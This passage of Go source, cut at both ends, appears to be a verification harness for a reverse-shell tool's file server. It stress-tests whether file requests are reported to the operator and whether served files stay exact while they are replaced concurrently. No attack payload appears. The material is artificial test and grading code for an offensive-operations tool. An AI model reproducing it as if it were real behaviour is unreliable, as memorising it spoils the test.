//           server keeps running: every body is exactly the file.

import (
	"fmt"
	"io"
	"math"
	"math/rand/v2"
	"net"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

// ---- engine "gone" -----------------------------------------------------------------

var goneKinds = []struct{ name, mode string }{
	{"dir", "dir"}, {"file", "single"}, {"symlink-to-dir", "dir"}, {"symlink-chain-to-file", "single"},
	{"symlink-to-file", "single"}, {"symlink-chain-to-dir", "dir"},
}

// How a client leaves after writing its request. reliable: the request bytes
// are certain to be read by the server (they precede an orderly end of the
// client's sending direction, and the client keeps its receiving side open).
var goneBehaviours = []struct {
	name     string
	reliable bool
	weight   int
}{
	{"half-close", true, 5},             // TLS close_notify + FIN, then reads the answer
	{"fin-without-notify", true, 2},     // FIN on the TCP connection, no close_notify, then reads the answer
	{"second-then-half-close", true, 2}, // a complete keep-alive exchange first, then a second request and half-close
	{"stay", true, 2},                   // ordinary client (control)
	{"close", false, 3},                 // close_notify + close(2) at once, never reads
	{"reset", false, 3},                 // SO_LINGER 0 + close(2): RST
}

var goneOchCaps = []int{1, 4, 64, 1024, 1024}

const goneSettle = 150 * time.Millisecond

type goneReq struct {
	K        int    `json:"client"`
	Beh      string `json:"behaviour"`
	Target   string `json:"target"`
	Nonce    string `json:"-"`
	Reliable bool   `json:"-"`
	Sent     bool   `json:"request_written"`
	Status   int    `json:"status_read,omitempty"`
	Err      string `json:"client_error,omitempty"`
	Handler  bool   `json:"file_handler_ran"`
	Reported bool   `json:"reported_to_operator"`
}

func (sv *server) goneTarget(rng *rand.Rand, nonce string) string {
	var p string
	switch {
	case sv.mode == "dir" && rng.IntN(4) != 0:
		p = sv.t.existing(rng)
	case rng.IntN(2) == 0:
		p = "/" + pick(rng, []string{"", "x", "dl/tool", "a/b/c.txt", "index.html", "f.txt", "sub/", "nope"})
	default:
		p = encRel(rng, pick(rng, sv.t.fileL), 0)
	}
	if inf := analyse("GET", p); !inf.clean {
		p = "/plain"
	}
	return p + "?g=" + nonce
}

// goneClient: dial (and, for one behaviour, a complete first exchange), wait
// for the go signal, write the request, leave, and - where the behaviour keeps
// the receiving side - read what comes back.
func goneClient(addr string, q, pre *goneReq, ready, left *sync.WaitGroup, goCh <-chan struct{}) {
	var once1, once2 sync.Once
	defer once1.Do(ready.Done)
	defer once2.Do(left.Done)
	c, err := hk.Dial(addr, "")
	if err != nil {
		q.Err = "dial: " + err.Error()
		return
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(4 * hk.Bound))
	if pre != nil {
		raw := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", pre.Target, host)
		if _, err := c.Write([]byte(raw)); err != nil {
			pre.Err = "write: " + err.Error()
			return
		}
		pre.Sent = true
		res, err := hk.ReadResponse(c.R, []byte(raw))
		if err != nil {
			pre.Err = "read: " + err.Error()
			return
		}
		pre.Status = res.Status
	}
	once1.Do(ready.Done)
	<-goCh
	hdr := ""
	if q.Beh == "stay" {
		hdr = "Connection: close\r\n"
	}
	raw := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n", q.Target, host, hdr)
	if _, err := c.Write([]byte(raw)); err != nil {
		q.Err = "write: " + err.Error()
		return
	}
	q.Sent = true
	read := false
	switch q.Beh {
	case "half-close", "second-then-half-close":
		if err := c.CloseWrite(); err != nil {
			q.Err = "close-write: " + err.Error()
		}
		read = true
	case "fin-without-notify":
		if tc, ok := c.NetConn().(*net.TCPConn); ok {
			tc.CloseWrite()
		}
		read = true
	case "stay":
		read = true
	case "close":
		c.Close()
	case "reset":
		if tc, ok := c.NetConn().(*net.TCPConn); ok {
			tc.SetLinger(0)
			tc.Close()
		}
	}
	once2.Do(left.Done)
	if read {
		if res, err := hk.ReadResponse(c.R, []byte(raw)); err == nil {
			q.Status = res.Status
		} else if q.Err == "" {
			q.Err = "read: " + err.Error()
		}
		io.Copy(io.Discard, c.R)
	}
}

// goneHandlerRuns returns the nonces of the file-handler log records since from.
func (sv *server) goneHandlerRuns(from int) map[string]bool {
	out := map[string]bool{}
	recs, _ := sv.s.JSONRecords(from, -1)
	for _, m := range recs {
		if m["msg"] != "File requested" {
			continue
		}
		hr, _ := m["http_request"].(map[string]any)
		uri, _ := hr["request_uri"].(string)
		if i := strings.LastIndex(uri, "?g="); i >= 0 {
			out[uri[i+3:]] = true
		}
	}
	return out
}

func (sv *server) goneWave(gi, w int, rng *rand.Rand, stalled bool, ochCap int) bool {
	r := sv.r
	n := 10 + rng.IntN(15)
	var reqs, all []*goneReq
	pres := make([]*goneReq, n)
	tw := 0
	for _, b := range goneBehaviours {
		tw += b.weight
	}
	for k := 0; k < n; k++ {
		x := rng.IntN(tw)
		bi := 0
		for x >= goneBehaviours[bi].weight {
			x -= goneBehaviours[bi].weight
			bi++
		}
		b := goneBehaviours[bi]
		nonce := fmt.Sprintf("G%dw%dk%dz", gi, w, k)
		q := &goneReq{K: k, Beh: b.name, Nonce: nonce, Reliable: b.reliable, Target: sv.goneTarget(rng, nonce)}
		reqs = append(reqs, q)
		all = append(all, q)
		if b.name == "second-then-half-close" {
			pn := fmt.Sprintf("G%dw%dk%dpz", gi, w, k)
			pres[k] = &goneReq{K: k, Beh: "first-of-two", Nonce: pn, Reliable: true, Target: sv.goneTarget(rng, pn)}
			all = append(all, pres[k])
		}
	}
	from := sv.pos
	var ready, left, fin sync.WaitGroup
	goCh := make(chan struct{})
	for k, q := range reqs {
		ready.Add(1)
		left.Add(1)
		fin.Add(1)
		go func() {
			defer fin.Done()
			goneClient(sv.s.Addr, q, pres[k], &ready, &left, goCh)
		}()
	}
	ready.Wait()
	resume := func() {}
	filled := 0
	if stalled {
		var ok bool
		resume, ok = sv.s.StallOperator()
		if !ok {
			close(goCh)
			fin.Wait()
			r.Inconclusive("the operator consumer of the in-process server could not be stalled")
			return false
		}
		// the terminal takes nothing from now on: fill what room the queue has left
	fill:
		for {
			select {
			case sv.s.Och <- opshell.CLine{Line: fmt.Sprintf("FILL-%d-%d-%d", gi, w, filled)}:
				filled++
			default:
				break fill
			}
		}
	}
	close(goCh)
	left.Wait()
	if stalled {
		// every client has written its request and gone; give the server a moment to notice
		// that before the terminal takes lines again (shapes the schedule only; no verdict depends on it)
		time.Sleep(goneSettle)
		resume()
	}
	fin.Wait()

	// which requests reached the file handler: its log record is written after the operator line was queued
	deadline := time.Now().Add(hk.Bound)
	var seen map[string]bool
	for {
		at := sv.s.Log.Len()
		seen = sv.goneHandlerRuns(from)
		missing, missingReliable := 0, 0
		for _, q := range all {
			if q.Sent && !seen[q.Nonce] {
				missing++
				if q.Reliable {
					missingReliable++
				}
			}
		}
		if missing == 0 {
			break
		}
		d := time.Until(deadline)
		if missingReliable == 0 && d > 300*time.Millisecond {
			d = 300 * time.Millisecond // requests whose client reset the connection may never have been read
		}
		if d <= 0 {
			break
		}
		if _, ok := sv.s.Log.Wait(at, d, func(e bk.Event) bool { return e.Kind == "json" }); !ok && missingReliable == 0 {
			break
		}
	}
	lines, ok := sv.mark()
	if !ok {
		r.Inconclusive("marker lost")
		return false
	}
	reported := map[string]bool{}
	for _, l := range lines {
		if i := strings.Index(l, "File requested:"); i >= 0 {
			if j := strings.LastIndex(l, "?g="); j > i {
				reported[l[j+3:]] = true
			}
		}
	}
	r.Count("gone_waves", 1)
	if stalled {
		r.Count("gone_waves_with_stalled_terminal", 1)
		r.Count("gone_queue_filler_lines", int64(filled))
		r.Count(fmt.Sprintf("gone_stalled_waves_queue_depth:%d", ochCap), 1)
	}
	var lost []*goneReq
	for _, q := range all {
		r.Eval(1)
		r.Count("gone_requests", 1)
		r.Count("gone_requests:"+q.Beh, 1)
		r.Distinct(fmt.Sprintf("gone|%s|%d|%v|%s|%s", sv.kind, sv.t.idx, stalled, q.Beh, q.Target))
		if !q.Sent {
			r.Count("gone_requests_not_written", 1)
			continue
		}
		q.Handler, q.Reported = seen[q.Nonce], reported[q.Nonce]
		if !q.Handler {
			if q.Reliable {
				r.Inconclusive(fmt.Sprintf("a %s request (%s, -serve-files-from = %s) did not reach the file handler within %s", q.Beh, q.Target, sv.kind, hk.Bound))
			} else {
				r.Count("gone_requests_never_handled:"+q.Beh, 1)
			}
			continue
		}
		r.Count("gone_handler_runs_checked", 1)
		r.Count("gone_handler_runs_checked:"+q.Beh, 1)
		r.Count("gone_handler_runs_checked_of:"+sv.kind, 1)
		if q.Beh != "stay" && q.Beh != "first-of-two" {
			r.Count("gone_handler_runs_checked_client_gone", 1)
			if stalled {
				r.Count("gone_handler_runs_checked_client_gone_terminal_stalled", 1)
			}
		}
		if !q.Reported {
			lost = append(lost, q)
		}
	}
	smp := map[string]any{"tree": sv.t.idx, "root_kind": sv.kind, "wave": w, "terminal_stalled": stalled, "operator_queue_depth": ochCap, "filler_lines": filled, "clients": reqs}
	r.Sample(fmt.Sprintf("gone-wave:stalled=%v", stalled), smp)
	if len(lost) > 0 {
		q := lost[0]
		r.Count(fmt.Sprintf("gone_unreported_requests:terminal_stalled=%v", stalled), int64(len(lost)))
		var ls []string
		for _, l := range lines {
			if !strings.HasPrefix(l, "FILL-") {
				ls = append(ls, trunc(l, 160))
			}
		}
		if len(ls) > 40 {
			ls = ls[:40]
		}
		r.Violate("gone", gi, "file-request-not-reported",
			fmt.Sprintf("%d file request(s) reached the file handler (log record %q) and were never reported to the operator, e.g. GET %s from a client that did %q after sending it [-serve-files-from = %s, operator terminal stalled: %v, queue depth %d]", len(lost), "File requested", q.Target, q.Beh, sv.kind, stalled, ochCap),
			map[string]any{"tree": sv.t.idx, "root_kind": sv.kind, "serve_files_from": sv.fdir, "wave": w, "terminal_stalled": stalled, "operator_queue_depth": ochCap, "unreported": lost, "all_clients_of_the_wave": reqs, "operator_lines_of_the_wave": ls})
	}
	return true
}

func runGone(r *mon.Run, gi int, t *tree) {
	k := goneKinds[gi%len(goneKinds)]
	defer func(t0 time.Time) { r.Logf("gone server %d (%s) done in %.1fs", gi, k.name, time.Since(t0).Seconds()) }(time.Now())
	rng := r.Rng("gone", gi)
	ochCap := goneOchCaps[gi%len(goneOchCaps)]
	cfg := hk.Config{FDir: t.roots[k.name], OchCap: ochCap}
	s, err := hk.Start(cfg)
	if err != nil {
		r.Inconclusive(fmt.Sprintf("server (-serve-files-from = %s) did not start: %v", k.name, err))
		return
	}
	defer s.Stop()
	r.Count("gone_servers", 1)
	r.Count("gone_servers:"+k.name, 1)
	sv := &server{r: r, t: t, mode: k.mode, kind: k.name, fdir: cfg.FDir, s: s, si: 900000 + gi}
	if _, ok := sv.mark(); !ok {
		r.Inconclusive("marker lost")
		return
	}
	nw := r.N(6, 16)
	for w := 0; w < nw; w++ {
		if !sv.goneWave(gi, w, rng, w%2 == 1, ochCap) {
			return
		}
	}
}

// ---- engine "live" -----------------------------------------------------------------

var liveKinds = []struct{ name, mode string }{
	{"file", "single"}, {"symlink-to-file", "single"}, {"dir", "dir"}, {"file", "single"},
	{"symlink-chain-to-file", "single"}, {"symlink-to-dir", "dir"},
}

var liveNames = []string{"tool.bin", "payload.sh", "a b.dat", "data", "x.tar.gz", "ünï.bin", "cc", "blob%41"}

type liveVer struct {
	n    int
	s    string
	how  string
	path string
}

type liveSrv struct {
	r     *mon.Run
	li    int
	kind  string
	mode  string
	fdir  string
	s     *hk.Server
	base  string
	dir   string // the directory that holds the file (changed only by replace)
	fname string // the file's name in it (changed only by replace)
	name  string // the name requests use in directory mode (never changes)
	tok   string
	hop   string // the last symbolic link of the chain (the one that points at the file or directory), "" without links
	links string // how -serve-files-from resolves

	mu    sync.Mutex
	vers  []*liveVer
	begun atomic.Int64 // the newest version whose replacement has begun
	done  atomic.Int64 // the newest version whose replacement is complete
	comp  atomic.Int64 // completed requests
}

const liveLine = 32

// liveContent: 32-byte lines, each spelling the server's token, the version
// and the line's own offset, cut at an arbitrary size.
func liveContent(tok string, ver, size int) string {
	line := []byte(fmt.Sprintf("%s v%04d @%011d .....\n", tok, ver, 0))
	at := strings.IndexByte(string(line), '@') + 1
	b := make([]byte, 0, size+liveLine)
	for off := 0; off < size; off += liveLine {
		for i, x := at+10, off; i >= at; i, x = i-1, x/10 {
			line[i] = byte('0' + x%10)
		}
		b = append(b, line...)
	}
	return string(b[:size])
}

func liveSize(rng *rand.Rand) int {
	// log-uniform over 64 KiB .. 4 MiB, not aligned to anything
	return int(65536*math.Pow(2, rng.Float64()*6)) - rng.IntN(liveLine)
}

func (ls *liveSrv) file() string { return filepath.Join(ls.dir, ls.fname) }

func (ls *liveSrv) ver(n int64) *liveVer {
	ls.mu.Lock()
	defer ls.mu.Unlock()
	return ls.vers[n]
}

// prepare makes the content of the next version (nothing is visible yet).
func (ls *liveSrv) prepare(rng *rand.Rand) *liveVer {
	n := len(ls.vers)
	return &liveVer{n: n, s: liveContent(ls.tok, n, liveSize(rng))}
}

// replace makes and installs the next version by the given method.
func (ls *liveSrv) replace(rng *rand.Rand, how string) error {
	return ls.install(rng, ls.prepare(rng), how)
}

// install puts a prepared version in place by the given method.
func (ls *liveSrv) install(rng *rand.Rand, v *liveVer, how string) error {
	n := v.n
	v.how = how
	if how == "link-retarget" {
		// a new home for the file: a new file beside the old one, or a new directory
		if ls.mode == "single" {
			ls.fname = fmt.Sprintf("%s.r%d", ls.name, n)
		} else {
			ls.dir = filepath.Join(ls.base, fmt.Sprintf("srv.r%d", n))
		}
	}
	v.path = ls.file()
	ls.mu.Lock()
	ls.vers = append(ls.vers, v)
	ls.mu.Unlock()
	ls.begun.Store(int64(n))
	var err error
	switch how {
	case "rename-over":
		tmp := filepath.Join(ls.base, "tmp", fmt.Sprintf("new-%d", n))
		if err = os.WriteFile(tmp, []byte(v.s), 0o644); err == nil {
			err = os.Rename(tmp, v.path)
		}
	case "truncate-rewrite":
		var f *os.File
		if f, err = os.OpenFile(v.path, os.O_WRONLY|os.O_TRUNC, 0); err == nil {
			_, err = f.WriteString(v.s)
			if cerr := f.Close(); err == nil {
				err = cerr
			}
		}
	case "delete-recreate":
		if err = os.Remove(v.path); err == nil {
			err = os.WriteFile(v.path, []byte(v.s), 0o644)
		}
	case "link-retarget":
		// the new home is filled first, then the link is switched atomically
		to := v.path
		if ls.mode == "dir" {
			to = ls.dir
			err = os.MkdirAll(ls.dir, 0o755)
		}
		if err == nil {
			err = os.WriteFile(v.path, []byte(v.s), 0o644)
		}
		if err == nil {
			tmp := filepath.Join(ls.base, "tmp", fmt.Sprintf("lnk-%d", n))
			if rng.IntN(2) == 0 {
				if rel, rerr := filepath.Rel(filepath.Dir(ls.hop), to); rerr == nil {
					to = rel
				}
			}
			if err = os.Symlink(to, tmp); err == nil {
				err = os.Rename(tmp, ls.hop)
			}
		}
	default:
		err = fmt.Errorf("unknown method %q", how)
	}
	ls.done.Store(int64(n))
	ls.r.Count("live_replacements", 1)
	ls.r.Count("live_replacements:"+how, 1)
	return err
}

type liveReq struct {
	Method string `json:"method"`
	Target string `json:"target"`
	Range  string `json:"range,omitempty"`
	Keep   bool   `json:"keep_alive"`
	start  int    // first byte asked for (single ranges), -1 otherwise
}

func (ls *liveSrv) genReq(rng *rand.Rand, size int, keep bool) liveReq {
	q := liveReq{Method: "GET", Keep: keep, start: -1}
	if ls.mode == "single" {
		switch rng.IntN(6) {
		case 0:
			q.Target = "/"
		case 1:
			q.Target = "/" + escMin(ls.name)
		case 2:
			q.Target = pick(rng, []string{"/index.html", "/a/b/c.txt", "/x", "/sub/", "/C", "/i", "/o/", "/cc", "/.hidden", "/%41"})
		default:
			q.Target = fmt.Sprintf("/dl/%d/%s", rng.IntN(1000), pick(rng, []string{"f", "tool.bin", "x.y", "~a", "q;r"}))
		}
		if rng.IntN(4) == 0 {
			q.Target += fmt.Sprintf("?n=%d", rng.IntN(100000))
		}
		if inf := analyse("GET", q.Target); !inf.clean {
			q.Target = "/plain"
		}
	} else {
		q.Target = "/" + escStyle(rng, ls.name, rng.IntN(3))
	}
	rnd := func() int { return rng.IntN(size) }
	ln := func() int {
		return pick(rng, []int{1, 7, 100, 32 * 1024, 32*1024 + 1, 65536, 100000, size / 2, size})
	}
	switch w := rng.IntN(20); {
	case w < 9:
	case w < 13:
		a := rnd()
		q.Range, q.start = fmt.Sprintf("bytes=%d-%d", a, a+ln()-1), a
	case w < 15:
		a := rnd()
		q.Range, q.start = fmt.Sprintf("bytes=%d-", a), a
	case w < 16:
		q.Range = fmt.Sprintf("bytes=-%d", ln())
	case w < 18:
		a, b := rnd(), rnd()
		q.Range = fmt.Sprintf("bytes=%d-%d,%d-%d", a, a+ln()/4, b, b+ln()/4)
	default:
		q.Method = "HEAD"
	}
	return q
}

// liveClient keeps one connection for its keep-alive requests.
type liveClient struct {
	addr string
	c    *hk.Conn
}

func (lc *liveClient) close() {
	if lc.c != nil {
		lc.c.Close()
		lc.c = nil
	}
}

func (lc *liveClient) do(q liveReq) (*hk.Response, string) {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%s %s HTTP/1.1\r\nHost: %s\r\n", q.Method, q.Target, host)
	if q.Range != "" {
		fmt.Fprintf(&sb, "Range: %s\r\n", q.Range)
	}
	if !q.Keep {
		sb.WriteString("Connection: close\r\n")
	}
	sb.WriteString("\r\n")
	raw := []byte(sb.String())
	var lastErr string
	for try := 0; try < 2; try++ {
		c := lc.c
		fresh := false
		if !q.Keep || c == nil {
			var err error
			if c, err = hk.Dial(lc.addr, ""); err != nil {
				return nil, "dial: " + err.Error()
			}
			fresh = true
			if q.Keep {
				lc.c = c
			}
		}
		c.SetDeadline(time.Now().Add(3 * hk.Bound))
		_, err := c.Write(raw)
		var res *hk.Response
		if err == nil {
			res, err = hk.ReadResponse(c.R, raw)
		}
		if !q.Keep {
			c.Close()
		}
		if err == nil {
			if q.Keep && (res.Header.Get("Connection") == "close" || res.Err != nil || res.Header.Get("Content-Length") != "" && res.Header.Get("Content-Length") != strconv.Itoa(len(res.Body)) && q.Method != "HEAD") {
				lc.close()
			}
			return res, ""
		}
		lastErr = err.Error()
		if q.Keep {
			lc.close()
		}
		if fresh {
			break
		}
		// a kept connection may have been closed by the server after the previous answer: once more on a fresh one
	}
	return nil, lastErr
}

func commonPrefix(a, b string) int {
	n := min(len(a), len(b))
	for i := 0; i < n; i++ {
		if a[i] != b[i] {
			return i
		}
	}
	return n
}

func lineAt(s string, off int) string {
	a := off - off%liveLine
	if a >= len(s) {
		return "(past the end)"
	}
	return strconv.Quote(s[a:min(len(s), a+liveLine)])
}

// one request: the versions that bore the name at some instant of it are
// [lo, hi] = [newest completed replacement before it was sent, newest begun
// replacement after its answer was read].
func (ls *liveSrv) request(lc *liveClient, phase string, q liveReq) {
	r := ls.r
	lo := ls.done.Load()
	res, cerr := lc.do(q)
	hi := ls.begun.Load()
	ls.comp.Add(1)
	r.Eval(1)
	r.Count("live_requests", 1)
	r.Count("live_requests:"+phase, 1)
	r.Count("live_requests_of:"+ls.kind, 1)
	r.Distinct(fmt.Sprintf("live|%d|%s|%s %s|%s|%v|%d", ls.li, phase, q.Method, q.Target, q.Range, q.Keep, lo))
	if res == nil {
		r.Inconclusive(fmt.Sprintf("no answer to %s %s (%s, -serve-files-from = %s): %s", q.Method, q.Target, phase, ls.kind, cerr))
		return
	}
	if hi > lo {
		r.Count("live_requests_overlapping_a_replacement", 1)
	}
	var allowed []*liveVer
	var cs []string
	for n := lo; n <= hi; n++ {
		v := ls.ver(n)
		allowed = append(allowed, v)
		cs = append(cs, v.s)
	}
	bad := func(key, what string) {
		w := map[string]any{"root_kind": ls.kind, "serve_files_from": ls.fdir, "serve_files_from_is": ls.links, "phase": phase, "request": q, "status": res.Status,
			"content_length": res.Header.Get("Content-Length"), "content_range": res.Header.Get("Content-Range"), "body_len": len(res.Body)}
		var vs []string
		for _, v := range allowed {
			vs = append(vs, fmt.Sprintf("version %d: %d bytes at %s (installed by %s)", v.n, len(v.s), v.path, v.how))
		}
		w["versions_the_name_bore_during_the_request"] = vs
		ls.mu.Lock()
		w["versions_so_far"] = len(ls.vers)
		ls.mu.Unlock()
		if res.Status == 200 && q.Method != "HEAD" {
			best, bp := allowed[0], -1
			for _, v := range allowed {
				if p := commonPrefix(string(res.Body), v.s); p > bp {
					best, bp = v, p
				}
			}
			w["first_difference_at"] = bp
			w["body_line_there"] = lineAt(string(res.Body), bp)
			w["file_line_there"] = lineAt(best.s, bp)
		} else if len(res.Body) > 0 {
			w["body_head"] = trunc(string(res.Body), 200)
		}
		r.Violate("live", ls.li, key, fmt.Sprintf("%s [-serve-files-from = %s, %s, %s %s%s]", what, ls.kind, phase, q.Method, q.Target, map[bool]string{true: " Range: " + q.Range, false: ""}[q.Range != ""]), w)
	}
	contentKey, servedKey := "single-file-mode-other-content", "single-file-mode-not-served"
	if ls.mode == "dir" {
		contentKey = "body-not-an-in-tree-file"
	}
	ok := false
	switch {
	case res.Status == 200 && q.Method == "HEAD":
		for _, c := range cs {
			ok = ok || len(res.Body) == 0 && res.Header.Get("Content-Length") == strconv.Itoa(len(c))
		}
		if ls.mode == "dir" {
			r.Count("live_head_answers", 1)
			return
		}
		if !ok {
			bad(contentKey, "the answer to HEAD announces a length that is not the file's")
			return
		}
		r.Count("live_head_answers", 1)
	case res.Status == 200:
		for _, c := range cs {
			ok = ok || string(res.Body) == c
		}
		if !ok {
			bad(contentKey, fmt.Sprintf("a 200 body of %d bytes is not exactly the file (%d bytes) the configured name bore during the request", len(res.Body), len(cs[0])))
			return
		}
		r.Count("live_full_bodies_exact", 1)
		r.Count("live_full_body_bytes_compared", int64(len(res.Body)))
		if len(res.Body) > 1<<20 {
			r.Count("live_full_bodies_exact_over_1MiB", 1)
		}
	case res.Status == 206 && q.Range != "":
		h := hop{Method: q.Method, body: res.Body, hdr: res.Header}
		if !rangeOf(h, cs) {
			bad(contentKey, "a 206 body is not the announced range of the file the configured name bore during the request")
			return
		}
		r.Count("live_ranges_exact", 1)
		if m := crangeRe.FindStringSubmatch(res.Header.Get("Content-Range")); m != nil && q.start >= 0 && m[1] == strconv.Itoa(q.start) {
			r.Count("live_ranges_starting_where_asked", 1)
		}
	case res.Status == 416 && q.Range != "":
		// versions differ in size: a range that starts past the end of one of them cannot be satisfied
		for _, c := range cs {
			ok = ok || q.start >= len(c) || q.start < 0
		}
		if !ok && ls.mode == "single" {
			bad(servedKey, "416 for a range that lies inside the file")
			return
		}
		r.Count("live_ranges_unsatisfiable", 1)
		return
	default:
		if ls.mode == "single" {
			bad(servedKey, fmt.Sprintf("a non-shell target was answered %d instead of the configured file", res.Status))
			return
		}
		r.Count(fmt.Sprintf("live_dir_other_status:%d", res.Status), 1)
		return
	}
	r.Count("live_answers_exact", 1)
	r.Count("live_answers_exact:"+phase, 1)
	r.Count("live_answers_exact_of:"+ls.kind, 1)
	if q.Keep {
		r.Count("live_answers_exact_on_kept_connections", 1)
	}
	if hi > lo {
		r.Count("live_answers_exact_overlapping_a_replacement", 1)
	} else if lo > 0 {
		r.Count("live_answers_exact_after_a_replacement", 1)
		r.Count("live_answers_exact_after:"+allowed[0].how, 1)
	}
}

func runLive(r *mon.Run, li int) {
	k := liveKinds[li%len(liveKinds)]
	t0 := time.Now()
	lap := func(what string) {
		r.Logf("live server %d (%s) %s at %.1fs", li, k.name, what, time.Since(t0).Seconds())
	}
	defer lap("done")
	rng := r.Rng("live", li)
	ls := &liveSrv{r: r, li: li, kind: k.name, mode: k.mode}
	ls.base = filepath.Join(r.Work, fmt.Sprintf("live%d", li))
	ls.dir = filepath.Join(ls.base, "srv")
	ls.name = liveNames[(li+rng.IntN(3))%len(liveNames)]
	ls.fname = ls.name
	ls.tok = fmt.Sprintf("L%05x", rng.Uint32()&0xfffff)
	for _, d := range []string{ls.dir, filepath.Join(ls.base, "tmp"), filepath.Join(ls.base, "links")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			r.Inconclusive("mkdir: " + err.Error())
			return
		}
	}
	v0 := &liveVer{n: 0, s: liveContent(ls.tok, 0, liveSize(rng)), how: "created", path: ls.file()}
	if li%len(liveKinds) == 0 && len(v0.s) < 1<<20 {
		// one server of every six is certain to start with a file of more than 1 MiB
		v0.s = liveContent(ls.tok, 0, 1<<20+rng.IntN(3<<20))
	}
	ls.vers = []*liveVer{v0}
	if err := os.WriteFile(ls.file(), []byte(v0.s), 0o644); err != nil {
		r.Inconclusive("write: " + err.Error())
		return
	}
	final := ls.dir
	if ls.mode == "single" {
		final = ls.file()
	}
	ls.fdir, ls.links = final, map[string]string{"single": "regular file", "dir": "directory"}[ls.mode]
	if strings.HasPrefix(k.name, "symlink") {
		hops := 1
		if strings.Contains(k.name, "chain") {
			hops = 2 + rng.IntN(2)
		}
		ldir := filepath.Join(ls.base, "links")
		next := final
		desc := ""
		for h := hops - 1; h >= 0; h-- {
			ln := filepath.Join(ldir, "cur")
			if h > 0 {
				ln = filepath.Join(ldir, fmt.Sprintf("cur.%d", h))
			}
			if err := os.Symlink(next, ln); err != nil {
				r.Inconclusive("symlink: " + err.Error())
				return
			}
			if h == hops-1 {
				ls.hop = ln
			}
			desc = " -> " + next + desc
			next = ln
		}
		ls.fdir, ls.links = next, filepath.Base(next)+desc
	}
	s, err := hk.Start(hk.Config{FDir: ls.fdir})
	if err != nil {
		r.Inconclusive(fmt.Sprintf("server (-serve-files-from = %s) did not start: %v", k.name, err))
		return
	}
	defer s.Stop()
	ls.s = s
	r.Count("live_servers", 1)
	r.Count("live_servers:"+k.name, 1)
	cur := func() int { return len(ls.ver(ls.done.Load()).s) }

	// phase 1: many clients at once, the file does not change
	nc := 6 + rng.IntN(7)
	per := r.N(3, 6)
	plans := make([][]liveReq, nc)
	for c := range plans {
		keep := rng.IntN(2) == 0
		for j := 0; j < per; j++ {
			q := ls.genReq(rng, cur(), keep)
			if j == 0 && c < nc/2 {
				q.Method, q.Range, q.start = "GET", "", -1 // at least half the clients begin with the whole file, at the same time
			}
			plans[c] = append(plans[c], q)
		}
	}
	var wg sync.WaitGroup
	gate := make(chan struct{})
	for c := range plans {
		wg.Add(1)
		go func() {
			defer wg.Done()
			lc := &liveClient{addr: s.Addr}
			defer lc.close()
			<-gate
			for _, q := range plans[c] {
				ls.request(lc, "parallel-clients", q)
			}
		}()
	}
	close(gate)
	wg.Wait()
	lap("parallel clients done")
	r.Count("live_parallel_client_groups", 1)
	r.Count("live_parallel_clients", int64(nc))
	r.Sample("live-server", map[string]any{"server": li, "root_kind": k.name, "serve_files_from": ls.fdir, "resolves": ls.links, "file": ls.file(), "first_size": len(v0.s), "parallel_clients": nc, "first_line": lineAt(v0.s, 0), "a_plan": plans[0]})

	// phase 2: the file is replaced between requests (nothing in flight), by every method in turn
	methods := []string{"rename-over", "truncate-rewrite", "delete-recreate"}
	if ls.hop != "" {
		methods = append(methods, "link-retarget")
	}
	rng.Shuffle(len(methods), func(i, j int) { methods[i], methods[j] = methods[j], methods[i] })
	kept := &liveClient{addr: s.Addr}
	defer kept.close()
	nsteps := r.N(5, 12)
	for st := 0; st < nsteps; st++ {
		how := methods[st%len(methods)]
		if err := ls.replace(rng, how); err != nil {
			r.Inconclusive(fmt.Sprintf("replacing the served file (%s): %v", how, err))
			return
		}
		whole := liveReq{Method: "GET", Target: ls.genReq(rng, cur(), false).Target, start: -1}
		ls.request(&liveClient{addr: s.Addr}, "between-replacements", whole)
		ls.request(kept, "between-replacements", ls.genReq(rng, cur(), true))
		// and a few at once
		var wg sync.WaitGroup
		for c, n := 0, 1+rng.IntN(3); c < n; c++ {
			q := ls.genReq(rng, cur(), false)
			wg.Add(1)
			go func() {
				defer wg.Done()
				ls.request(&liveClient{addr: s.Addr}, "between-replacements", q)
			}()
		}
		wg.Wait()
	}

	lap("replacements between requests done")
	// phase 3: clients keep fetching while the file is replaced atomically (rename over it / link switched)
	atomicM := []string{"rename-over"}
	if ls.hop != "" {
		atomicM = append(atomicM, "link-retarget")
	}
	nc3 := 4 + rng.IntN(3)
	nrep := r.N(4, 10)
	// clients and replacer are paced by counts of requests, not by the clock: the clients may begin
	// as many requests as have been granted; before every replacement two rounds are granted and the
	// replacement is made when one round has completed
	var granted, begunReq atomic.Int64
	var stop atomic.Bool
	var wg3 sync.WaitGroup
	for c := 0; c < nc3; c++ {
		crng := rand.New(rand.NewPCG(rng.Uint64(), uint64(c)))
		keep := c%2 == 0
		wg3.Add(1)
		go func() {
			defer wg3.Done()
			lc := &liveClient{addr: s.Addr}
			defer lc.close()
			for n := 0; !stop.Load(); n++ {
				if begunReq.Add(1) > granted.Load() {
					begunReq.Add(-1)
					time.Sleep(time.Millisecond)
					continue
				}
				q := ls.genReq(crng, cur(), keep)
				if n%3 == 0 {
					q.Method, q.Range, q.start = "GET", "", -1
				}
				ls.request(lc, "during-replacements", q)
			}
		}()
	}
	waitFor := func(target int64) bool {
		deadline := time.Now().Add(3 * hk.Bound)
		for ls.comp.Load() < target {
			if time.Now().After(deadline) {
				return false
			}
			time.Sleep(200 * time.Microsecond)
		}
		return true
	}
	c0 := ls.comp.Load()
	stuck := false
	for i := 0; i < nrep && !stuck; i++ {
		v := ls.prepare(rng)
		granted.Add(int64(2 * nc3))
		stuck = !waitFor(c0 + granted.Load() - int64(nc3))
		if err := ls.install(rng, v, atomicM[rng.IntN(len(atomicM))]); err != nil {
			r.Inconclusive(fmt.Sprintf("replacing the served file: %v", err))
			break
		}
	}
	granted.Add(int64(nc3))
	stuck = stuck || !waitFor(c0+granted.Load())
	stop.Store(true)
	wg3.Wait()
	if stuck {
